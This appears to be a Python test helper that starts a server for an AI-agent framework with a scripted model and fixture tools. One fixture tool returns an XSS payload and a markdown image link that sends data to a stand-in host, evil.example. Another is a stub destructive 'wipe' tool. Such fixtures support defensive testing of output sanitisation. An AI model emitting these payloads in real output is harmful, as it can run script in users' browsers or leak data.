"""A real server for the pages, with settings, tools and a model of the test's own."""

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from gateway.server_process import Served
from warm.start import Popen

PROGRAM = """
import json
import sys
import uvloop
from treadle.config import read_settings
from treadle.runtime import Parts, RandomIds, Runtime
from treadle.server.server_process import serve
from treadle.providers.fakes.scripted_model import ScriptedModel, read_script

async def main(config, store, port, delay_s, chunk_bytes, script, env):
    env = json.loads(env)
    overrides = {"store.url": store, "server.port": int(port)}
    settings = read_settings(config, env=env, overrides=overrides).settings
    sleep_s = float(delay_s)
    model = ScriptedModel(read_script(script), ids=RandomIds(), chunk_bytes=int(chunk_bytes)) if script else None
    async with Runtime(settings, model=model, parts=Parts(env=env, demo_delay_s=sleep_s)) as runtime:
        await serve(runtime, lambda address: print(address.url + " " + address.login, flush=True), 0.2)

uvloop.run(main(*sys.argv[1:]))
"""
TOOLS = '''
from treadle import tool


@tool(effect="destructive")
def wipe(folder: str, force: bool = False) -> str:
    """Delete a folder."""
    return f"wiped {folder}, force {force}"


@tool
def look(folder: str) -> str:
    """List a folder."""
    return "<img src=x onerror=alert('tool')> ![x](https://evil.example/?d=tool) a.txt"


@tool
def fail(why: str) -> str:
    """Fail."""
    raise ValueError(why)
'''


class Hosted(Served):
    """A running server, and the path of its first login link."""

    login: str = ""


@contextmanager
def hosted(
    folder: Path,
    *,
    toml: str = "",
    script: str = "",
    delay_s: float = 0.0,
    chunk_bytes: int = 64,
    env: dict[str, str] | None = None,
    port: int = 0,
) -> Iterator[Hosted]:
    """Start a server with these settings and the tools above; on the demo model, or on a script's turns."""
    (folder / "tools.py").write_text(TOOLS, encoding="utf-8")
    config = folder / "treadle.toml"
    load = f'[tools]\nload = ["{folder / "tools.py"}"]\n' if "[tools]" not in toml else ""
    config.write_text(toml + "\n" + load, encoding="utf-8")
    arguments = (str(config), f"sqlite:///{folder}/treadle.db", str(port), str(delay_s), str(chunk_bytes), script)
    variables = json.dumps({"HOME": str(folder), **(env or {})})
    process = Popen(
        [sys.executable, "-c", PROGRAM, *arguments, variables],
        stdout=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONWARNINGS": "error"},
    )
    assert process.stdout is not None
    try:
        url, _, login = process.stdout.readline().strip().partition(" ")
        host, _, port = url.removeprefix("http://").partition(":")
        yield Hosted(process=process, host=host, port=int(port), login=login)
    finally:
        process.kill()
        process.communicate()


def call(tool: str, arguments: str, call_id: str) -> str:
    """Write the turn of a script that calls a tool."""
    return f"[[script]]\n[[script.calls]]\nid = \"{call_id}\"\nname = \"{tool}\"\nraw = '''{arguments}'''\n"
